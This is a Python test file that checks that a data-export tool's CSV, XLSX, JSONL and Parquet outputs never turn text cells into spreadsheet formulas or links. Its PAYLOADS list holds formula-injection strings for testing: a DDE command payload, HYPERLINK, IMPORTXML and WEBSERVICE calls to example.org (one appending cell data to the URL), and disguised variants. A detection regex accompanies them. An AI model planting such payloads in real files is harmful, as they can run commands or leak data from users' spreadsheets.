"""No cell of an export becomes a formula or a link, whatever the articles say; numbers stay numbers."""

from __future__ import annotations

import csv
import json
import re
import sys
from dataclasses import replace
from pathlib import Path
from zipfile import ZipFile

import pandas as pd
import pyarrow.parquet as pq
import pytest

from dashboard.downloads import csv_of
from data.model import Document, Reading
from data.store import open_store, write
from ingest.export.to_file import WRITERS, export

sys.path.append(str(Path(__file__).resolve().parents[1] / "data"))
from store_examples import claim

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    "http://example.org/",
]
FORMULA = re.compile(r"[\s\u200b]*[=+\-@\uff1d]")


@pytest.fixture
def store(tmp_path):
    """Every payload as the words of a figure, its source, its place and its outlet; values below zero."""
    path = tmp_path / "s.duckdb"
    with open_store(path) as connection:
        write(connection, [made(number, payload) for number, payload in enumerate(PAYLOADS)])
    return path


def made(number, payload):
    owner = Document(str(number), f"{payload} tents.", "en", "", outlet=payload, title=payload, url=payload)
    found = claim(owner, payload, value=-5, source_name=payload, measure_text=payload, via=(payload,))
    return Reading(owner, (replace(found, place=payload),), "one", payload.encode())


WORDS = ("figure", "source_name", "measure_text", "place", "outlet", "title", "url", "via")


def test_csv(tmp_path, store):
    export(tmp_path / "o.csv", store)
    with (tmp_path / "o.csv").open(encoding="utf-8", newline="") as file:
        found = list(csv.DictReader(file))
    assert [row["figure"].removeprefix("'") for row in found] == in_order(found)
    assert [row["value"] for row in found] == ["-5"] * len(PAYLOADS)
    assert not [cell for row in found for name in WORDS if FORMULA.match(cell := row[name])]


def in_order(found):
    return [PAYLOADS[int(row["document_id"])] for row in found]


def test_xlsx(tmp_path, store):
    export(tmp_path / "o.xlsx", store)
    with ZipFile(tmp_path / "o.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    assert not [name for name in names if "externalLink" in name or "sheet1.xml.rels" in name]
    assert sheet.count("<v>-5</v>") == 3 * len(PAYLOADS), "value, and both ends of its interval"


def test_for_programs(tmp_path, store):
    """JSON lines and Parquet have types: nothing is marked in them."""
    export(tmp_path / "o.jsonl", store)
    export(tmp_path / "o.parquet", store)
    lines = [json.loads(line) for line in (tmp_path / "o.jsonl").read_text("utf-8").splitlines()]
    table = pq.read_table(tmp_path / "o.parquet").to_pylist()
    for found in (lines, table):
        assert [row["figure"] for row in found] == in_order(found)
        assert {row["value"] for row in found} == {-5}


def test_every_format_is_looked_at():
    assert set(WRITERS) == {".csv", ".xlsx", ".jsonl", ".parquet"}


def test_the_table_of_a_chart():
    text = csv_of(pd.DataFrame({"Figure": PAYLOADS, "value": [-5.0] * len(PAYLOADS)}))
    found = list(csv.reader(text.splitlines(keepends=True)))[1:]
    assert not [words for words, _ in found if FORMULA.match(words)]
    assert {value for _, value in found} == {"-5"}
